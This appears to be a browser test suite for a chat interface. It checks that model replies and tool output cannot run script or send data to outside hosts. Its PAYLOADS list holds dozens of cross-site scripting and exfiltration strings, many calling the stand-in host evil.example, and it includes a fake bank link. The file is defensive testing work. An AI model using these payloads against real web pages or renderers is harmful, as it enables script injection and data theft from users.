import { ask, expect, open, settled, test, transcript } from "./fixtures";

/** Ways in which a model or a page it read might try to run something or to send something out. */
const PAYLOADS = [
  `<script>window.__ran=1</script>`,
  `<img src=x onerror="window.__ran=1">`,
  `<img src="https://evil.example/a.png?secret">`,
  `![x](https://evil.example/b.png?secret)`,
  `![x](javascript:window.__ran=1)`,
  `[x](javascript:window.__ran=1)`,
  `[x](JaVaScRiPt:window.__ran=1)`,
  `[x](java&#x0A;script:window.__ran=1)`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox)`,
  `<javascript:window.__ran=1>`,
  `<svg onload="window.__ran=1"><script>window.__ran=1</script></svg>`,
  `<svg><animate onbegin="window.__ran=1" attributeName=x dur=1s></svg>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.__ran=1</script>"></object>`,
  `<embed src="https://evil.example/c.swf">`,
  `<link rel="stylesheet" href="https://evil.example/d.css">`,
  `<link rel="preload" as="image" href="https://evil.example/e">`,
  `<style>@import "https://evil.example/f.css"; body{background:url(https://evil.example/g)}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/h">`,
  `<form action="https://evil.example/i"><button autofocus onfocus="window.__ran=1">x</button></form>`,
  `<details open ontoggle="window.__ran=1">x</details>`,
  `<video autoplay src="https://evil.example/j.mp4" onerror="window.__ran=1"></video>`,
  `<audio src="https://evil.example/k.mp3" autoplay></audio>`,
  `<body onload="window.__ran=1">`,
  `<input autofocus onfocus="window.__ran=1">`,
  `<a href="https://evil.example/l" ping="https://evil.example/m">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__ran=1">`,
  `<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">`,
  `<template><script>window.__ran=1</script></template>`,
  `$\\href{javascript:window.__ran=1}{x}$`,
  `$\\includegraphics{https://evil.example/n.png}$`,
  `$$\\htmlStyle{background:url(https://evil.example/o)}{x}$$`,
  `$\\url{javascript:window.__ran=1}$`,
  '```mermaid\ngraph TD\nA[<img src=x onerror=window.__ran=1>] --> B\nclick A "javascript:window.__ran=1"\n```',
  "```mermaid\n%%{init: {'themeCSS': '@import url(https://evil.example/p.css);'}}%%\ngraph TD\nA-->B\n```",
  "```html\n<script>window.__ran=1</script>\n```",
  `[ref]: javascript:window.__ran=1 "x"\n\n[ref]`,
  `[^1]\n\n[^1]: <img src=x onerror="window.__ran=1">`,
  `| <img src=x onerror="window.__ran=1"> | b |\n|---|---|\n| [c](javascript:window.__ran=1) | d |`,
  `<scr<script>ipt>window.__ran=1</scr</script>ipt>`,
  `"><script>window.__ran=1</script>`,
  `'-window.__ran=1-'`,
  `{{constructor.constructor('window.__ran=1')()}}`,
  `<x-card is="y" style="background:url(https://evil.example/q)">x</x-card>`,
  `\u202e<img src=x onerror="window.__ran=1">\u202c`,
];

test("nothing a model writes runs or leaves by itself", async ({ page, hart, outside }) => {
  await open(page, hart);
  const said = PAYLOADS.join("\n\n");
  await ask(page, `SAY64 ${Buffer.from(`${said}\n\nthe end`).toString("base64")}`);
  await expect(transcript(page).getByText("the end", { exact: true })).toBeVisible();
  await settled(page);
  for (const one of PAYLOADS) {
    await ask(page, `SAY64 ${Buffer.from(one).toString("base64")}`);
    await settled(page);
  }
  // Diagrams are drawn a moment after they rest.
  await page.waitForTimeout(3000);
  expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
  expect(outside).toEqual([]);
  const links = await page
    .locator("a[href]")
    .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol));
  expect(new Set(links)).not.toContain("javascript:");
  expect(await page.locator("[onerror],[onload],iframe[srcdoc],.transcript script").count()).toBe(0);
});

test("nothing a tool returns runs or leaves, whatever the card shows of it", async ({ page, hart, outside }) => {
  await open(page, hart);
  const command = `printf '%s' '${PAYLOADS.slice(0, 12).join("\n").replaceAll("'", "")}'`;
  await ask(page, `CALL bash ${JSON.stringify({ command, description: PAYLOADS[1] })}`);
  await settled(page);
  await page.locator(".tool-head").first().click();
  await expect(page.locator(".tool-text").first()).toContainText("<script>window.__ran=1</script>");
  expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
  expect(outside).toEqual([]);
});

test("what leaves would be noticed", async ({ page, hart, outside }) => {
  await open(page, hart);
  const other = await page.context().newPage();
  void other.goto("https://evil.example/x").catch(() => undefined);
  await expect.poll(() => outside.length).toBeGreaterThan(0);
  await other.close();
});

test("a link says where it leads before it is followed", async ({ page, hart, outside }) => {
  await open(page, hart);
  await ask(page, "SAY see [your bank](https://evil.example/login)");
  await transcript(page)
    .getByRole("link", { name: /your bank/ })
    .click();
  await expect(page.getByRole("dialog")).toContainText("https://evil.example/login");
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
  expect(outside).toEqual([]);
});

test("the page's policy allows nothing inline and nothing from elsewhere", async ({ page, hart }) => {
  const response = await page.goto(hart.url);
  const policy = response?.headers()["content-security-policy"] ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain("unsafe");
  const violations: string[] = [];
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text());
  });
  await ask(page, "SAY `code` and $x^2$\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  await settled(page);
  await page.waitForTimeout(500);
  expect(violations).toEqual([]);
});
